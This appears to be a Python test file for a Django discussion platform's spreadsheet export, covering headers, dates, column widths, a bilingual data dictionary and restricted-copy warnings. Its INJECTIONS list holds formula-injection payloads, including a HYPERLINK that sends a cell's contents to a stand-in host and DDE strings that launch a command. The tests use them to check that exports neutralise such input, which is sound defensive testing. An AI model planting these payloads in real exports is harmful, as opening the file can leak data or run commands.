"""The workbook as people open it: heads that stay, filters, real dates, widths, words about every column, no formulas."""

import io
import zipfile
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from django.conf import settings

from discussions.models import Endorsement, Space
from hub.kit.dates import moment_in
from moderation.exports.annexes import MANIFEST
from moderation.exports.sheets import columns_of_posts, sheets_of
from tests import factories, people
from tests.moderation.exports.packages import Package, exported
from tests.moderation.exports.varied import corrected
from tests.people import Actor

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"press")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    ';=1+1;"',
    'DDE ("cmd";"/C calc";"!A0")A0',
    '"=1+1"',
]
GUARDED = ["- first\n- second", "-"]
HARMLESS = [
    "-5 degrees",
    "+41 22 717 91 11",
    "-12,5 %",
    "+1",
    "a=b",
    "2 + 2 = 4",
    "name@place",
]


@pytest.fixture
def space() -> Space:
    return factories.space()


@pytest.fixture
def paulo() -> Actor:
    return people.secretariat()


def whole(space: Space, by: Actor) -> Package:
    post = factories.post(space)
    factories.attachment(post.latest_version)
    Endorsement.objects.create(post=post, kind="person", endorser_name="Ann")
    factories.post(space, answers=post)
    corrected(factories.post(space))
    return exported(space, by)


def test_heads_and_references_stay_and_every_sheet_can_be_filtered(
    space: Space, paulo: Actor
) -> None:
    for sheet in whole(space, paulo).workbook:
        assert sheet.freeze_panes == "B2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions, sheet.title
        assert sheet.print_title_rows == "$1:$1"


def about(package: Package, sheet: str = "About this workbook") -> list[tuple[str, str]]:
    _title, *rows = package.workbook[sheet].iter_rows(values_only=True)
    return [(what, which) for what, which in rows]


def test_the_first_sheet_says_what_the_workbook_is(space: Space, paulo: Actor) -> None:
    factories.prompt(space, 1)
    factories.post(space)
    package = exported(space, paulo, prompts=(1,), with_replies=False)
    assert package.workbook.sheetnames[0] == "About this workbook"
    told = about(package)
    assert told[:3] == [
        ("Space", "Title of roundtable"),
        ("Address", f"{settings.SITE_URL}/en/spaces/roundtable/"),
        ("Portal", settings.SITE_NAME),
    ]
    assert ("Cut-off", f"{moment_in(space.created_at)} UTC") in told
    assert dict(told)["For whom"].startswith("What every reader may see.")
    assert [which for what, which in told if what == "Filter"] == [
        "Questions: 1",
        "Replies: left out",
    ]
    assert ("Inputs", "All inputs: 1. In this export: 0. Left out: 1.") in told
    assert ("Headings in", "English") in told
    assert dict(told)["File"].startswith(f"RT-{space.created_at:%Y-%m-%d-%H%M%SZ}-public-part-")
    assert "Restricted" not in package.workbook.properties.title
    assert not any(sheet.oddHeader.center.text for sheet in package.workbook)


def test_a_restricted_workbook_says_so_on_each_page_and_in_its_title(
    space: Space, paulo: Actor
) -> None:
    factories.post(space)
    package = exported(space, paulo, "restricted")
    warning = "Restricted to the secretariat. Do not pass it on."
    assert about(package)[0] == ("Attention", warning)
    assert package.workbook.properties.title.endswith(warning)
    for sheet in package.workbook:
        assert sheet.oddHeader.center.text == warning, sheet.title
        assert sheet.oddFooter.center.text == warning, sheet.title


def test_days_are_days_and_numbers_are_numbers(space: Space, paulo: Actor) -> None:
    package = whole(space, paulo)
    row = package.sheet("Submissions")[0]
    assert isinstance(row["Received (UTC)"], datetime)
    assert isinstance(row["Files"], int)
    assert row["Verified"] is False
    sheet = package.workbook["Submissions"]
    titles = [cell.value for cell in sheet[1]]
    cell = sheet.cell(2, titles.index("Received (UTC)") + 1)
    assert cell.is_date
    assert cell.number_format == "yyyy-mm-dd hh:mm:ss"


def test_columns_are_as_wide_as_they_need_and_sentences_wrap(space: Space, paulo: Actor) -> None:
    sheet = whole(space, paulo).workbook["Submissions"]
    titles = {cell.value: cell.column_letter for cell in sheet[1]}
    assert sheet.column_dimensions[titles["Text"]].width > 80
    assert 8 < sheet.column_dimensions[titles["Version"]].width < 11
    assert sheet[f"{titles['Text']}2"].alignment.wrap_text
    assert sheet[f"{titles['Organisation']}2"].alignment.wrap_text
    assert not sheet[f"{titles['SHA-256 of the text']}2"].alignment.wrap_text


@pytest.mark.parametrize("language", ["en", "fr"])
def test_the_data_dictionary_explains_every_column_in_both_languages(
    language: str, space: Space, paulo: Actor
) -> None:
    factories.post(space)
    package = exported(space, paulo, language=language)
    *_, sheet = package.workbook
    title, *rows = sheet.iter_rows(values_only=True)
    assert title == (
        "Sheet or file",
        "Feuille ou fichier",
        "Code",
        "Column",
        "Colonne",
        "Meaning",
        "Signification",
        "Codes (English)",
        "Codes (français)",
    )
    keys = [(row[0], row[2]) for row in rows]
    tables = sheets_of(is_difference=False)
    expected = [len(table.fields) for table in tables]
    assert len(keys) == sum(expected) + len(columns_of_posts(is_difference=False)) + len(MANIFEST)
    assert ("submissions.csv", "stakeholder_group") in keys
    assert ("Attachments", "left_out") in keys
    for row in rows:
        assert all(row[:7]), row
    by_key = dict(zip(keys, rows, strict=True))
    state = by_key["Submissions", "state"]
    assert state[3] == "State"
    assert "pending: Waiting for review" in state[7]
    assert state[8].startswith("pending: ")
    assert state[8] != state[7]
    assert by_key["Attachments", "left_out"][7].count("\n") > 5


def test_other_versions_stand_on_a_sheet_of_their_own(space: Space, paulo: Actor) -> None:
    factories.window(space, "closed", late_policy="mark")
    post = factories.post(space, None, "<p>First.</p>")
    factories.attachment(post.latest_version, "first.pdf")
    corrected(post, body="<p>Second.</p>")
    corrected(post, body="<p>Too late.</p>", standing="late")
    corrected(post, body="<p>Waits.</p>", standing="on-time", published_at=None, review="waiting")

    def others(*args: Any, **chosen: Any) -> list[tuple[int, int, str]]:
        package = exported(space, paulo, *args, **chosen)
        rows = package.sheet("Other versions")
        return [(r["Version"], r["Version that counts"], r["Text"]) for r in rows]

    assert others() == [(1, 2, "First.")]
    assert others("restricted") == [(1, 2, "First."), (4, 2, "Waits.")]
    assert others(with_earlier=False) == []
    assert others("restricted", with_earlier=False) == [(4, 2, "Waits.")]
    without = exported(space, paulo, with_earlier=False)
    assert "First." not in without.all_that_can_be_read
    assert [v["number"] for v in without.data["posts"][0]["versions"]] == [2, 3]
    assert [n for n in without.names if n.startswith("attachments/")] == []
    assert len([n for n in exported(space, paulo).names if n.startswith("attachments/")]) == 1


@pytest.mark.parametrize("text", INJECTIONS + GUARDED + HARMLESS)
def test_a_text_is_a_text_in_every_table(text: str, space: Space, paulo: Actor) -> None:
    """In the workbook letter by letter; in CSV with an apostrophe at most, without which it is the same again."""
    body = "".join(f"<p>{line}</p>" for line in text.split("\n"))
    factories.post(space, None, body, speaker={"speaker_name": text.split("\n", 1)[0]})
    package = exported(space, paulo, "restricted")  # the other one masks telephone numbers
    for cells in package.workbook["Submissions"].iter_rows(min_row=2):
        assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    plain = "\n\n".join(text.split("\n"))
    assert package.sheet("Submissions")[0]["Text"] == plain
    with zipfile.ZipFile(io.BytesIO(package.member("submissions.xlsx"))) as book:
        for part in book.namelist():
            assert b"<f>" not in book.read(part)
            assert b"externalLink" not in book.read(part)
    told = package.table()[0]["text"]
    if text in HARMLESS:
        assert told == plain
    assert told.replace("'", "") == plain.replace("'", "")
    assert not told.lstrip('"').startswith(("=", "@", "＝", "+cmd", "-2+3"))


def test_a_workbook_opens_again_and_is_the_same_each_time(space: Space, paulo: Actor) -> None:
    whole(space, paulo)
    one, other = exported(space, paulo), exported(space, paulo)
    assert one.member("submissions.xlsx") == other.member("submissions.xlsx")
    assert openpyxl.load_workbook(io.BytesIO(one.member("submissions.xlsx"))).sheetnames
